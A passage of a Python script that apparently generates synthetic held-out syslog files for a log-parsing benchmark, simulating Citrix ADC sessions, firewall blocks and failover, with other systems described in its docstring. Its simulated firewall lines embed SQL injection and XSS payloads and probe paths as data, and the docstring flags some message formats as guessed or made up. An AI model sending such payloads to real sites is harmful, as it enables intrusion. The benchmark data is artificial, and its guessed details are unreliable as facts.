#!/usr/bin/env python3
# ruff: noqa: E501  (the log lines it writes are data, one per call)
"""Writes the held-out logs of round 124 (citrix-adc, huawei-vrp, sonic, rkhunter, sysmon-linux)
into bench/heldout/, the same way and under the same label rules as generate.py (bench/README.md,
"heldout.py"): each program's log is simulated from its format strings over a seeded run, and
every line that starts an event is labelled with the format string that wrote it as it is
written. Distinct calls of one process never share a timestamp at the log's resolution (round
53's Clock, kept per process and per file). Five network and host-security systems, 06:00 to
12:00 on 2024-06-05. None was in the set; all five are the brief's.

- Citrix ADC / NetScaler 13.1 (`adc1-ns.log`, `adc2-ns.log`: an HA pair's /var/log/ns.log,
  `Jun  5 06:00:02 <local0.info> 10.20.0.5 06/05/2024:06:00:02 GMT adc1 0-PPE-0 : default SSLVPN
  LOGIN 50288 0 :  Context ...`, the module and event name after the partition, a message
  sequence number per appliance, the packet engine that logged it): the Gateway's sessions
  (`SSLVPN LOGIN`, `TCPCONNSTAT`, `ICASTART`, `ICAEND_CONNSTAT`, `LOGOUT` with its byte counts and
  `LogoutMethod`), the LDAP servers unreachable 09:20-09:34 and an expired contractor account
  (`AAA LOGIN_FAILED`), the web pool's bad deploy 07:05-07:19 and a reports server flapping at
  10:20 (`EVENT MONITORDOWN` / `MONITORUP`, `DEVICEDOWN` / `DEVICEUP`), old clients and scanners
  failing TLS all morning (`SSLLOG SSL_HANDSHAKE_FAILURE`), a scanner tripping the application
  firewall 10:10-10:40 (`APPFW APPFW_SQL`, `APPFW_XSS`, `APPFW_STARTURL`), Ansible's NITRO calls
  every 15 minutes (`API CMD_EXECUTED`), an admin's CLI session with two errors at 10:50, and the
  planned failover at 11:02 (`EVENT STATECHANGE`; adc2 logs the traffic after it).
- Huawei VRP V200R021 switches (`core-sw01.log`, `acc-sw07.log`, `acc-sw12.log`, `acc-sw15.log`:
  a central rsyslog's per-host files, `Jun  5 09:12:07 ACC-SW07 %%01L2IFPPI/4/MFLPVLANALARM(l)
  [3822]: MAC move detected, ...`): an old NMS polling with a retired community every two minutes
  (`SNMP/4/SNMP_FAIL` and its `INFO/4/SUPPRESS_LOG` `Last message repeated %d times.`), access
  ports coming up as the office fills and a bad patch cable flapping (`IFPDT/4/IF_STATE`), an
  Eth-Trunk member's fibre failing (`TRUNK/5/TRUNK_MEM_NUMBER_CHANGE`), a printer's duplicate IP
  (`ARP/4/ARP_DUPLICATE_IPADDR`), a loop through a desk switch on ACC-SW07 09:12-09:26
  (`L2IFPPI/4/MFLPVLANALARM` on both ends, `MSTP/6/RECEIVE_MSTITC` on the core,
  `DEFD/4/CPCAR_DROP_MPU`, `VOSCPU/4/CPU_USAGE_HIGH` / `RESUME`) until an admin shuts the port
  (`SSH/5/SSH_USER_LOGIN`, `SHELL/5/CMDRECORD`, `CFM/4/SAVE`, `SSH_USER_LOGOUT`), an OSPF
  authentication change dropping the firewall's adjacency 10:05-10:13 (`OSPF/6/NBR_CHANGE_E`,
  `OSPF/3/NBR_DOWN_REASON`), the config backup's password rotated at 10:00
  (`SSH/5/SSH_USER_LOGIN_FAIL`), and a server VLAN down for maintenance (`IFNET/4/LINK_STATE`,
  `MSTP/4/PORT_STATE_DISCARDING` / `FORWARDING`).
- SONiC 202305 (`leaf01-syslog`, `leaf02-syslog`: two Broadcom leaves' /var/log/syslog, SONiC's
  rsyslog template `2024 Jun  5 07:10:14.000547 leaf01 NOTICE swss#orchagent: :- updatePortOperStatus:
  Port Ethernet0 oper state set from up to down`, the container before `#`): snmpd's `error on
  subcontainer 'ia_addr' insert (-1)` every minute; a marginal optic on leaf01's uplink flapping
  07:10-08:04 and server ports going down and up all morning (orchagent's `Get port state change
  notification id:%lx status:%d`, `Port %s oper state set from %s to %s`, `Set operation status
  %s to host interface %s`, portsyncd's `nlmsg type:%d key:%s admin:%d oper:%d ...`, neighorch's
  `Created neighbor ip %s, %s on %s` / `Removed neighbor %s on %s`, bgpd's `%ADJCHANGE` with FRR's
  unique ids, monit's `'routeCheck' status failed (255) -- Failure results: ...`); teamd's LACP
  `%s: Changed port state: "%s" -> "%s"`; a PFC storm on leaf02 08:30-08:55 (`PFC Watchdog
  detected PFC storm on port ...` / `storm restored`); a new peer configured with the wrong AS
  09:31-10:14 (`%NOTIFICATION: sent to neighbor ... 2/2 (OPEN Message Error/Bad Peer AS)`); a route
  leak 10:20-10:55 (crmorch's `IPV4_ROUTE THRESHOLD_EXCEEDED for TH_PERCENTAGE ...` every five
  minutes, then `THRESHOLD_CLEAR`); a hot ASIC sensor (thermalctld); and `config reload` on
  leaf02 at 11:20 (monit's container_checker, syncd's `executeOperationsOnAsic: operations on %s:
  %d`, every port's MTU and admin status set again, bgpd restarting).
- Rootkit Hunter 1.4.6 (`web01-rkhunter.log`, `db01-rkhunter.log`: /var/log/rkhunter.log on two
  Ubuntu 22.04 hosts, `[06:25:03] Info: ...`, `[HH:MM:SS]` the only time on a line): cron.daily's
  `--cronjob --report-warnings-only --appendlog` run at 06:25 on both (the verbose start-up: every
  command found or not, the hash and test settings; the strings, shared library and file
  properties checks; every known rootkit's files, directories and kernel symbols; malware,
  trojan, network, boot, account, configuration and filesystem checks; the summary); on web01 the
  binaries unattended-upgrades replaced at 06:06 (`/usr/sbin/sshd [ Warning ]`, `Warning: The
  file properties have changed:` and the hash, inode, size and time lines indented under it),
  lwp-request's Perl script and PermitRootLogin; on db01 PostgreSQL's segments in /dev/shm and the
  barman user and group added; `rkhunter --propupd` on web01 at 09:58 and `--check --sk` at 10:04.
- Sysmon for Linux 1.3 (`web01-syslog`, Ubuntu's /var/log/syslog; `db01-messages`, RHEL 9's
  /var/log/messages: `Jun  5 06:00:00 web01 sysmon: <Event><System><Provider Name="Linux-Sysmon"
  ...</EventData></Event>`, one event a line): web01's Laravel scheduler under cron every minute
  (ProcessCreate, ProcessTerminate), cron.daily, a deploy at 07:30 (git, composer, artisan and
  their NetworkConnect and FileCreate), checkouts calling the payment API from php-fpm, a web shell
  at 09:41 (php-fpm spawning shells, a dropper fetched into /tmp, a miner in /var/tmp/.cache, a
  crontab, a reverse shell) cleaned up by an admin at 10:02 (kill, FileDelete), the configuration
  replaced and the service restarted at 10:20 (ServiceConfigurationChange, ServiceStateChange);
  db01's replication check every five minutes, the hourly dump shipped to S3, an admin's `fdisk
  -l` (RawAccessRead).

Label notes. The log heads are context: ns.log's syslog head, its GMT date, node, packet engine,
partition and sequence number (`... 0-PPE-2 : default ` and ` 50311 0 :  `); the syslog head and
VRP's `%%01` and `(l)[seq]:` around the mnemonic; SONiC's year, time, host, level and tag, the
SWSS logger's `:- function: ` and FRR's unique id; rkhunter's `[HH:MM:SS]` and its `Info: ` /
`Warning: ` type; the syslog head before `sysmon: `. The module and event name of a NetScaler
line (`SSLVPN LOGIN`, `EVENT MONITORDOWN`) and the VRP mnemonic (`IFPDT/4/IF_STATE`) are the
event's own identity and kept as wording with the message; the CLI's `Status "ERROR: ..."` is a
message of its own (two labels beside `"Success"`). Values the program computes are variables:
UP/DOWN and up/down in VRP's and orchagent's state messages, `status:%d`, the LACP states, a
NetScaler monitor's and application's names, the failure reason (an error table's text, as NATS's
close reasons). rkhunter's messages come from its language file; the result in brackets is the
`--result` the call site passes (`[ OK ]`, `[ Warning ]`, `[ Not found ]`: wording, as the test
names `Starting test name 'strings'` each call site writes), the padding to column 62 is not;
the indented lines a warning prints under it with `--log-indent 9` (separate calls, each with its
time) continue the warning's event and have no row, and the blank `[HH:MM:SS]` lines `--nl`
writes and `--appendlog`'s two empty lines are no event (no row). A Sysmon event's template is
its schema: the XML of its event id with each field's value a `%s`, the fields every event of
the id fills alike (`-`, `no level`, `tcp`) kept. Citrix, Huawei, Sysmon and rkhunter show whole
seconds, SONiC microseconds; the Clock keeps one process's lines a step apart, which spreads an
rkhunter run (a line a second) over 15 minutes where the real one takes two or three.

Least sure (written from the helper's knowledge; orchagent's, portsyncd's, crmorch's, the PFC
watchdog's and libteam's messages, FRR's `%ADJCHANGE` and SONiC's year-first syslog layout were
checked against copies of their sources and tests, rkhunter's display function, log layout and
English messages against its source): the NetScaler `ICASTART` / `ICAEND_CONNSTAT` and
`TCPCONNSTAT` field lists, the `STATECHANGE` text, `<local0.*>` priorities per event, `Reason "
No shared cipher"`, the APPFW line's fields and the CLI error texts; VRP's `CPU_USAGE_HIGH` /
`RESUME`, `ARP_DUPLICATE_IPADDR`, `SNMP_FAIL`'s reason text and SUPPRESS_LOG's InfoID, and how a
central rsyslog writes VRP's head; SONiC's `Removed neighbor %s on %s`, `Set operation status %s
to host interface %s`, thermalctld's wording, monit's routeCheck output and syncd's view
operations at a cold start; rkhunter 1.4.6's exact Info lines after the command list, the
rootkit files (made up: the names and count are rkhunter's, not its file lists) and whether the
warning details are indented by 9; Sysmon's Version per event id, LogonId and the ProcessGuid
layout on Linux.
"""

from __future__ import annotations

import hashlib
import random
import sys
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parent))

from generate import Log, generate, hexid
from generate_round52 import Records
from generate_round53 import Clock
from generate_round56 import frr_uid
from generate_round97 import Files, sec, syslog_ts


def at(h: int, m: int, s: int = 0) -> datetime:
    """An instant of 2024-06-05 (UTC), the day every system of the round runs."""
    return datetime(2024, 6, 5, h, m, s, tzinfo=UTC)


def poisson(r: random.Random, t0: datetime, t1: datetime, mean: float) -> list[datetime]:
    """Instants between t0 and t1, `mean` seconds apart on average."""
    out, t = [], t0
    while True:
        t += timedelta(seconds=r.expovariate(1 / mean))
        if t >= t1:
            return out
        out.append(t)


def raw(fs: Files, f: str, t: datetime, label: str | None, lines: list[str]) -> None:
    """Lines written outside any process's clock (a blank line a call prints before its
    message, at that message's instant)."""
    fs.files.setdefault(f, Records()).add(t, lines, label)  # type: ignore[arg-type]


SEQ = "\x00SEQ\x00"


def renumber(fs: Files, first: dict[str, int]) -> None:
    """A message sequence number each file's lines carry in time order (the SEQ mark)."""
    for f, rec in fs.files.items():
        n = first[f]
        items = []
        for t, k, lines, tid in sorted(rec.items, key=lambda x: (x[0], x[1])):
            if SEQ in lines[0]:
                n += 1
                lines = [lines[0].replace(SEQ, str(n)), *lines[1:]]
            items.append((t, k, lines, tid))
        rec.items = items


def clock_at(fs: Files, proc: object, t: datetime, res: int) -> datetime:
    return fs.clocks.setdefault(res, Clock(res)).at(proc, t)


T0, T_END = at(6, 0), at(12, 0)


# ------------------------------------------------------------------------------- citrix-adc

ADC_NODES = {"adc1": "10.20.0.5", "adc2": "10.20.0.6"}
ADC_GW_VIP = "203.0.113.40"
ADC_WEB_VIP = "203.0.113.41"
ADC_USERS = [
    "jdoe",
    "asmith",
    "mrossi",
    "lchen",
    "pnovak",
    "kwalker",
    "tnguyen",
    "egarcia",
    "hmueller",
    "sdubois",
    "rpatel",
    "okarlsson",
    "bkowalski",
    "aferreira",
    "ylee",
    "dmoreau",
    "nsato",
    "cbrown",
    "fbianchi",
    "wjohnson",
    "vpetrova",
    "gschmidt",
    "mlopez",
    "iandersen",
    "zhussain",
    "qmartin",
    "ujensen",
    "xwang",
] + [
    f"{a}{b}"
    for a, b in zip(
        "abcdefghijklmnoprstuvwyzabcdefghijklmnoprstuvw",
        [
            "berger",
            "costa",
            "dahl",
            "evans",
            "fischer",
            "gallo",
            "hansen",
            "ito",
            "jovanovic",
            "keller",
            "larsen",
            "meyer",
            "nagy",
            "olsen",
            "perez",
            "quinn",
            "rossi",
            "silva",
            "tanaka",
            "urban",
            "vogel",
            "weber",
            "young",
            "zimmer",
            "baker",
            "cruz",
            "diaz",
            "eriksen",
            "ford",
            "gomez",
            "horvat",
            "ivanov",
            "jung",
            "kaur",
            "lambert",
            "moreno",
            "nowak",
            "ortiz",
            "price",
            "reyes",
            "santos",
            "torres",
            "ueda",
            "vargas",
            "wolf",
            "yilmaz",
        ],
        strict=True,
    )
]
ADC_GROUPS = ["VPN-Staff", "VPN-Staff,Citrix-Desktops", "VPN-IT,Citrix-Desktops", "VPN-Contractors"]
ADC_UAS = [
    "CitrixReceiver/23.11.0.41 Windows/10.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "CitrixReceiver/24.3.0.64 Mac/14.5",
]
ADC_APPS = ["Desktop", "Outlook", "SAP Logon", "Excel", "Finance Portal"]
ADC_VDAS = [f"10.30.5.{n}" for n in (21, 22, 23, 24, 31, 32)]
ADC_BACKENDS = [
    ("10.30.8.10", 443),
    ("10.30.8.11", 443),
    ("10.30.9.20", 3389),
    ("10.30.9.45", 22),
    ("10.30.10.5", 1433),
    ("10.30.8.25", 8443),
]
ADC_CLIENT_NETS = ["198.51.100.", "203.0.113.", "192.0.2.", "100.64.12.", "100.64.40."]
ADC_SCANNERS = ["45.155.205.91", "185.220.101.47", "162.142.125.33", "71.6.146.186"]


def citrix_adc(r: random.Random) -> list[Log]:
    """A NetScaler (Citrix ADC 13.1) HA pair's /var/log/ns.log, adc1 primary until a planned
    failover at 11:02 and adc2 after it: the Gateway's sessions (LOGIN, TCPCONNSTAT, ICASTART,
    ICAEND_CONNSTAT, LOGOUT) peaking 07:45-09:30, the LDAP servers unreachable 09:20-09:34
    (AAA LOGIN_FAILED), a bad deploy taking the web pool's two servers down 07:05-07:19
    (MONITORDOWN, DEVICEDOWN), old clients and scanners failing TLS handshakes all morning, a
    scanner tripping the application firewall 10:10-10:40, Ansible's NITRO calls every 15
    minutes and an admin's CLI session with two errors at 10:50."""
    fs = Files()

    def N(
        h: str,
        t: datetime,
        pri: str,
        ppe: int,
        kind: str,
        label: str,
        body: str,
    ) -> datetime:
        ip = ADC_NODES[h]
        return fs.add(
            f"{h}-ns.log",
            t,
            f"{kind}: {label}",
            lambda x: [
                f"{syslog_ts(x)} <local0.{pri}> {ip} {x:%m/%d/%Y:%H:%M:%S} GMT {h} 0-PPE-{ppe} : default {kind} {SEQ} 0 :  {body}"
            ],
            (h, ppe),
            1_000_000,
        )

    failover = at(11, 2, 14)

    def prim(t: datetime) -> str:
        return "adc1" if t < failover else "adc2"

    def gmt(t: datetime) -> str:
        return f"{t:%m/%d/%Y:%H:%M:%S} GMT"

    def hms(s: float) -> str:
        s = int(s)
        return f"{s // 3600:02d}:{s % 3600 // 60:02d}:{s % 60:02d}"

    def cip() -> str:
        return r.choice(ADC_CLIENT_NETS) + str(r.randint(2, 250))

    CTX = 'Context %s@%s - SessionId: %d- User %s - Client_ip %s - Nat_ip "Mapped Ip" - Vserver %s:%d - '
    ldap_down = (at(9, 20, 3), at(9, 34, 40))
    sid = [r.randint(2000, 4000)]

    def session(user: str, t: datetime, end: datetime) -> None:
        sid[0] += 1
        s = sid[0]
        ip = cip()
        ppe = r.randint(0, 3)
        h = prim(t)
        ctx = f'Context {user}@{ip} - SessionId: {s}- User {user} - Client_ip {ip} - Nat_ip "Mapped Ip" - Vserver {ADC_GW_VIP}:443 - '
        grp = r.choice(ADC_GROUPS)
        ctype = r.choice(["ICA", "ICA", "ICA", "AGEE", "CVPN"])
        N(
            h,
            t,
            "info",
            ppe,
            "SSLVPN LOGIN",
            CTX + "Browser_type %s - SSLVPN_client_type %s - Group(s) %s",
            ctx
            + f'Browser_type "{r.choice(ADC_UAS)}" - SSLVPN_client_type {ctype} - Group(s) "{grp}"',
        )
        tt = t + sec(r.uniform(5, 40))
        ncon = 0
        nbytes = [0, 0]
        while tt < end - sec(30):
            kind = r.random()
            if kind < 0.45 and "Citrix" in grp:
                app = r.choice(ADC_APPS)
                vda = r.choice(ADC_VDAS)
                cport = r.randint(49152, 65000)
                cid = hexid(r, 32)
                st = tt
                N(
                    prim(tt),
                    tt,
                    "info",
                    ppe,
                    "SSLVPN ICASTART",
                    'Source %s:%d - Destination %s:%d - customername %s - username:domainname %s:%s - applicationName %s - startTime "%s" - connectionId %s',
                    f'Source {ip}:{cport} - Destination {vda}:2598 - customername  - username:domainname {user}:CORP - applicationName {app} - startTime "{gmt(st)}" - connectionId {cid}',
                )
                et = min(end - sec(5), tt + sec(r.uniform(300, 5400)))
                if et > st + sec(60):
                    b1, b2 = r.randint(200_000, 90_000_000), r.randint(50_000, 8_000_000)
                    N(
                        prim(et),
                        et,
                        "info",
                        ppe,
                        "SSLVPN ICAEND_CONNSTAT",
                        'Source %s:%d - Destination %s:%d - customername %s - username:domainname %s:%s - startTime "%s" - endTime "%s" - Duration %s  - Total_bytes_send %d - Total_bytes_recv %d - Total_compressedbytes_send %d - Total_compressedbytes_recv %d - Compression_ratio_send %s - Compression_ratio_recv %s - connectionId %s',
                        f'Source {ip}:{cport} - Destination {vda}:2598 - customername  - username:domainname {user}:CORP - startTime "{gmt(st)}" - endTime "{gmt(et)}" - Duration {hms((et - st).total_seconds())}  - Total_bytes_send {b1} - Total_bytes_recv {b2} - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - connectionId {cid}',
                    )
                tt += sec(r.uniform(600, 2400))
            else:
                dst, dport = r.choice(ADC_BACKENDS)
                sport = r.randint(49152, 65000)
                st = tt
                et = min(end - sec(2), tt + sec(r.expovariate(1 / 180)))
                b1, b2 = r.randint(400, 900_000), r.randint(1200, 6_000_000)
                nbytes[0] += b1
                nbytes[1] += b2
                ncon += 1
                N(
                    prim(et),
                    et,
                    "info",
                    ppe,
                    "SSLVPN TCPCONNSTAT",
                    CTX
                    + 'Source %s:%d - Destination %s:%d - Start_time "%s" - End_time "%s" - Duration %s  - Total_bytes_send %d - Total_bytes_recv %d - Total_compressedbytes_send %d - Total_compressedbytes_recv %d - Compression_ratio_send %s - Compression_ratio_recv %s - Access %s - Group(s) %s',
                    ctx
                    + f'Source {ip}:{sport} - Destination {dst}:{dport} - Start_time "{gmt(st)}" - End_time "{gmt(et)}" - Duration {hms((et - st).total_seconds())}  - Total_bytes_send {b1} - Total_bytes_recv {b2} - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - Access Allowed - Group(s) "{grp}"',
                )
                tt += sec(r.uniform(60, 1100))
        if end < T_END:
            method = "Explicit" if r.random() < 0.6 else r.choice(["TimedOut", "IdleTimeout"])
            N(
                prim(end),
                end,
                "info",
                ppe,
                "SSLVPN LOGOUT",
                CTX
                + 'Start_time "%s" - End_time "%s" - Duration %s  - Http_resources_accessed %d - NonHttp_services_accessed %d - Total_TCP_connections %d - Total_UDP_flows %d - Total_policies_allowed %d - Total_policies_denied %d - Total_bytes_send %d - Total_bytes_recv %d - Total_compressedbytes_send %d - Total_compressedbytes_recv %d - Compression_ratio_send %s - Compression_ratio_recv %s - LogoutMethod %s - Group(s) %s',
                ctx
                + f'Start_time "{gmt(t)}" - End_time "{gmt(end)}" - Duration {hms((end - t).total_seconds())}  - Http_resources_accessed {r.randint(3, 60)} - NonHttp_services_accessed 0 - Total_TCP_connections {ncon} - Total_UDP_flows 0 - Total_policies_allowed {ncon + r.randint(2, 40)} - Total_policies_denied 0 - Total_bytes_send {nbytes[0]} - Total_bytes_recv {nbytes[1]} - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - LogoutMethod "{method}" - Group(s) "{grp}"',
            )

    def login_failed(t: datetime, user: str, reason: str) -> None:
        N(
            prim(t),
            t,
            "err",
            r.randint(0, 3),
            "AAA LOGIN_FAILED",
            "User %s - Client_ip %s - Failure_reason %s",
            f'User {user} - Client_ip {cip()} - Failure_reason "{reason}"',
        )

    # the Gateway's users: most log in 07:30-09:30, a few early, some twice
    starts = []
    for u in ADC_USERS:
        n = r.choice([1, 1, 2, 2, 3])
        t = (
            at(7, 30) + sec(r.gauss(0, 2400))
            if r.random() < 0.85
            else at(6, 5) + sec(r.uniform(0, 3000))
        )
        t = max(t, at(6, 1) + sec(r.uniform(0, 600)))
        for _ in range(n):
            if t >= at(11, 50):
                break
            dur = r.uniform(1800, 9000)
            starts.append((t, u, dur))
            t += sec(dur + r.uniform(600, 5400))
    for t, u, dur in sorted(starts):
        if ldap_down[0] <= t < ldap_down[1]:
            for k in range(r.randint(2, 4)):
                login_failed(
                    t + sec(k * r.uniform(20, 60)),
                    u,
                    "External authentication server denied access",
                )
            t = ldap_down[1] + sec(r.uniform(10, 300))
        elif r.random() < 0.12:
            login_failed(t - sec(r.uniform(8, 40)), u, "Invalid credentials")
        session(u, t, t + sec(dur))
    # a contractor's account expired: retried all morning
    for t in poisson(r, at(6, 40), at(11, 30), 900):
        login_failed(t, "ext.mbauer", "Invalid credentials")
    # old clients and scanners failing the TLS handshake on both VIPs
    spcb = [r.randint(100000, 900000)]
    for t in poisson(r, T0, T_END, 45):
        spcb[0] += r.randint(1, 40)
        scanner = r.random() < 0.55
        ip = r.choice(ADC_SCANNERS) if scanner else cip()
        ver, cs = r.choice(
            [
                ("TLSv1", "AES-256-CBC-SHA TLSv1 Non-Export 256-bit"),
                ("TLSv1", "DES-CBC3-SHA TLSv1 Non-Export 168-bit"),
                ("SSLv3", "RC4-MD5 SSLv3 Non-Export 128-bit"),
                ("TLSv1.1", "AES-128-CBC-SHA TLSv1 Non-Export 128-bit"),
            ]
        )
        N(
            prim(t),
            t,
            "err",
            r.randint(0, 3),
            "SSLLOG SSL_HANDSHAKE_FAILURE",
            "SPCBId %d - ClientIP %s - ClientPort %d - VserverServiceIP %s - VserverServicePort %d - ClientVersion %s - CipherSuite %s - Reason %s",
            f'SPCBId {spcb[0]} - ClientIP {ip} - ClientPort {r.randint(1024, 65000)} - VserverServiceIP {r.choice([ADC_GW_VIP, ADC_WEB_VIP])} - VserverServicePort 443 - ClientVersion {ver} - CipherSuite "{cs}" - Reason " No shared cipher"',
        )
    # the web pool's bad deploy: both servers' monitors fail, the services go down
    web = [("svc_web01", "10.30.8.10"), ("svc_web02", "10.30.8.11")]
    for i, (svc, ip) in enumerate(web):
        td = at(7, 5, 12) + sec(i * r.uniform(20, 70))
        tu = at(7, 18, 40) + sec(i * r.uniform(15, 60))
        for t, st in ((td, "DOWN"), (tu, "UP")):
            mon = "mon_https_webapp"
            N(
                prim(t),
                t,
                "alert" if st == "DOWN" else "notice",
                0,
                f"EVENT MONITOR{st}",
                f"Monitor %s(%s:%d) - State {st}",
                f"Monitor {mon}({ip}:443) - State {st}",
            )
            N(
                prim(t),
                t + sec(0.3),
                "alert" if st == "DOWN" else "notice",
                0,
                f"EVENT DEVICE{st}",
                f"Device %s - State {st}",
                f'Device "{svc}" - State {st}',
            )
    # a reporting server's monitor flaps at 10:20
    for k in range(3):
        td = at(10, 20, 5) + sec(k * r.uniform(90, 200))
        tu = td + sec(r.uniform(30, 60))
        for t, st in ((td, "DOWN"), (tu, "UP")):
            N(
                prim(t),
                t,
                "alert" if st == "DOWN" else "notice",
                0,
                f"EVENT MONITOR{st}",
                f"Monitor %s(%s:%d) - State {st}",
                f"Monitor mon_http_reports(10.30.8.25:8443) - State {st}",
            )
    # the planned failover for the firmware upgrade
    N(
        "adc1",
        failover,
        "notice",
        0,
        "EVENT STATECHANGE",
        "Device %s - State %s",
        'Device "self node 10.20.0.5" - State "Secondary"',
    )
    N(
        "adc2",
        failover + sec(0.4),
        "notice",
        0,
        "EVENT STATECHANGE",
        "Device %s - State %s",
        'Device "self node 10.20.0.6" - State "Primary"',
    )
    N(
        "adc1",
        at(11, 31, 50),
        "notice",
        0,
        "EVENT STATECHANGE",
        "Device %s - State %s",
        'Device "self node 10.20.0.5" - State "Secondary"',
    )
    # the application firewall: a scanner on the web VIP
    prof = "appfw_prof_webshop"
    scanner = "185.220.101.47"
    sess = alnum_id(r)
    sqli = [
        ("q", "1' or '1'='1"),
        ("id", "1 union select username,password from users--"),
        ("sort", "name;drop table orders"),
        ("q", "' and sleep(5)--"),
        ("cat", "2' AND 1=CONVERT(int,@@version)--"),
    ]
    xss = [
        ("q", "<script>alert(1)</script>"),
        ("name", "<img src=x onerror=alert(document.cookie)>"),
        ("ref", "javascript:alert(1)"),
    ]
    bad_urls = [
        "/.env",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/.git/config",
        "/cgi-bin/luci",
        "/server-status",
        "/actuator/env",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    ]
    txn = [r.randint(1000, 9000)]
    for t in poisson(r, at(10, 10, 3), at(10, 40, 0), 8.5):
        txn[0] += r.randint(1, 9)
        ppe = r.randint(0, 3)
        k = r.random()
        head = f"{scanner} {txn[0]}-PPE{ppe} {sess} {prof} "
        if k < 0.45:
            f, v = r.choice(sqli)
            path = r.choice(["/search.php", "/product.php", "/category.php"])
            N(
                prim(t),
                t,
                "info",
                ppe,
                "APPFW APPFW_SQL",
                '%s %d-PPE%d %s %s %s SQL Keyword check failed for field %s="%s" <%s>',
                head
                + f'https://shop.example.com{path}?{f}={urlq(v)} SQL Keyword check failed for field {f}="{v}" <blocked>',
            )
        elif k < 0.7:
            f, v = r.choice(xss)
            N(
                prim(t),
                t,
                "info",
                ppe,
                "APPFW APPFW_XSS",
                '%s %d-PPE%d %s %s %s Cross-site script check failed for field %s="%s" <%s>',
                head
                + f'https://shop.example.com/search.php?{f}={urlq(v)} Cross-site script check failed for field {f}="{v}" <blocked>',
            )
        else:
            N(
                prim(t),
                t,
                "info",
                ppe,
                "APPFW APPFW_STARTURL",
                "%s %d-PPE%d %s %s %s Disallow Illegal URL. <%s>",
                head
                + f"https://shop.example.com{r.choice(bad_urls)} Disallow Illegal URL. <blocked>",
            )
    # Ansible's NITRO calls every 15 minutes (a service group's members kept in sync)
    for t in [T0 + sec(900 * i + r.uniform(2, 20)) for i in range(24)]:
        for cmd in [
            "show ns version",
            "show servicegroup sg_webapp",
            "show lb vserver vs_webapp_https",
        ]:
            t = N(
                prim(t),
                t + sec(r.uniform(0.2, 1.5)),
                "info",
                0,
                "API CMD_EXECUTED",
                'User %s - Remote_ip %s - Command %s - Status "Success"',
                f'User svc_ansible - Remote_ip 10.20.9.40 - Command "{cmd}" - Status "Success"',
            )
    # an admin's CLI session at 10:50: two mistakes, then the change
    t = at(10, 50, 31)
    cli = [
        ("show ha node", None),
        ("show lb vserver vs_reports", None),
        (
            "bind lb vserver vs_reports svc_reports03",
            (
                "ERROR: No such resource [%s, %s]",
                "ERROR: No such resource [serviceName, svc_reports03]",
            ),
        ),
        ("add service svc_reports03 10.30.8.26 HTTP 8443", None),
        ("bind lb vserver vs_reports svc_reports03", None),
        (
            "bind lb vserver vs_reports svc_reports03",
            ("ERROR: Resource already exists", "ERROR: Resource already exists"),
        ),
        ("bind service svc_reports03 -monitorName mon_http_reports", None),
        ("save ns config", None),
        ("show ns runningConfig -withDefaults", None),
    ]
    for cmd, err in cli:
        t += sec(r.uniform(8, 60))
        if err is None:
            N(
                "adc1",
                t,
                "info",
                0,
                "CLI CMD_EXECUTED",
                'User %s - Remote_ip %s - Command %s - Status "Success"',
                f'User nsroot - Remote_ip 10.20.9.15 - Command "{cmd}" - Status "Success"',
            )
        else:
            N(
                "adc1",
                t,
                "info",
                0,
                "CLI CMD_EXECUTED",
                f'User %s - Remote_ip %s - Command %s - Status "{err[0]}"',
                f'User nsroot - Remote_ip 10.20.9.15 - Command "{cmd}" - Status "{err[1]}"',
            )
    renumber(fs, {f"{h}-ns.log": r.randint(40000, 90000) for h in ADC_NODES})
    return fs.logs(T0)


def alnum_id(r: random.Random) -> str:
    chars = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
    return "".join(r.choice(chars) for _ in range(27)) + "0001"


def urlq(v: str) -> str:
    out = []
    for c in v:
        if c.isalnum() or c in "-_.~/":
            out.append(c)
        elif c == " ":
            out.append("+")
        else:
            out.append(f"%{ord(c):02X}")
    return "".join(out)


# ---------------------------------------------------------------------------------- huawei-vrp

HW_SWITCHES = {
    # host: (file, model's uplink, access ports)
    "CORE-SW01": "core-sw01.log",
    "ACC-SW07": "acc-sw07.log",
    "ACC-SW12": "acc-sw12.log",
    "ACC-SW15": "acc-sw15.log",
}
HW_MACS = [
    f"{a:04x}-{b:04x}-{c:04x}"
    for a, b, c in [
        (0x3C52, 0x82A1, 0x0F11),
        (0x7085, 0xC2D4, 0x19E0),
        (0x001E, 0xC9B7, 0x4410),
        (0xF48E, 0x3830, 0xA7C2),
        (0x5065, 0xF3E1, 0x22B9),
        (0x98FA, 0x9B01, 0x7D44),
        (0xB8CA, 0x3A5F, 0x90E6),
        (0x0C9D, 0x9246, 0x1AA3),
        (0x1866, 0xDA0B, 0x53F0),
        (0xA0CE, 0xC8D2, 0x0E71),
        (0xD4BE, 0xD9C0, 0x3318),
        (0x2C41, 0x3892, 0x6F05),
    ]
]


def huawei_vrp(r: random.Random) -> list[Log]:
    """Three Huawei S-series switches (VRP V200R021) logging to a central rsyslog, one file each
    (`core-sw01.log`, `acc-sw07.log`, `acc-sw12.log`): an old NMS polling with a retired SNMP
    community every five minutes, access ports coming up as the office fills 07:30-09:00 and a
    bad patch cable flapping on ACC-SW12 08:10-08:50, an Eth-Trunk member's fibre failing on the
    core 07:40-07:58, a printer's duplicate IP 08:40-09:00, a loop through a desk switch on
    ACC-SW07 09:12-09:26 (MAC flapping, CPCAR drops, TC BPDUs on the core, CPU overload) until an
    admin shuts the port, an OSPF authentication change on the core dropping the firewall's
    adjacency 10:05-10:13, the config backup's password rotated at 10:00 (SSH login failures), and
    a server VLAN down for maintenance 11:10-11:25."""
    fs = Files()

    def H(h: str, t: datetime, mod: str, typ: str, label: str, msg: str) -> datetime:
        return fs.add(
